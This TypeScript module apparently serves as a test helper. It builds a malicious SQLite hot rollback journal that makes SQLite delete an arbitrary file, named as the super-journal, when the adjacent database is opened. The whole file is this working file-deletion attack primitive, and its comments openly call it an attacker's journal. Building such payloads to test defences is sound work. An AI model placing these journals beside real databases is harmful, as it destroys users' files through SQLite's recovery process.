/**
 * A rollback journal as an attacker writes it: SQLite replays it when it opens the database beside which it lies, and
 * then removes the file that it names as its super-journal. The format is that of https://sqlite.org/fileformat.html,
 * part 3.
 */

const MAGIC = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7];
const SECTOR_BYTES = 512;
const NONCE = 7;
/** The page of the lock byte, which no journal has, marks the end. */
const PENDING_BYTE = 2 ** 30;

/** The journal of a database with those bytes, which gives its first page back as it is. */
export function hotJournal(database: Uint8Array, super_journal: string): Uint8Array {
  const page_size = new DataView(database.buffer, database.byteOffset).getUint16(16);
  const page = database.subarray(0, page_size);
  const head = new Uint8Array(SECTOR_BYTES);
  head.set(MAGIC);
  const numbers = [1, NONCE, database.length / page_size, SECTOR_BYTES, page_size];
  for (const [at, number] of numbers.entries()) new DataView(head.buffer).setUint32(8 + 4 * at, number);
  const record = new Uint8Array(page_size + 8);
  new DataView(record.buffer).setUint32(0, 1);
  record.set(page, 4);
  let sum = NONCE;
  for (let at = page_size - 200; at > 0; at -= 200) sum += page[at]!;
  new DataView(record.buffer).setUint32(page_size + 4, sum);
  return new Uint8Array([...head, ...record, ...superJournal(super_journal, page_size)]);
}

/** What stands at the end of a journal that has a super-journal. */
export function superJournal(path: string, page_size: number): Uint8Array {
  const name = new TextEncoder().encode(path);
  const sum = name.reduce((total, byte) => total + byte, 0);
  const tail = new Uint8Array(4 + name.length + 8 + MAGIC.length);
  const view = new DataView(tail.buffer);
  view.setUint32(0, PENDING_BYTE / page_size + 1);
  tail.set(name, 4);
  view.setUint32(4 + name.length, name.length);
  view.setUint32(8 + name.length, sum);
  tail.set(MAGIC, 12 + name.length);
  return tail;
}
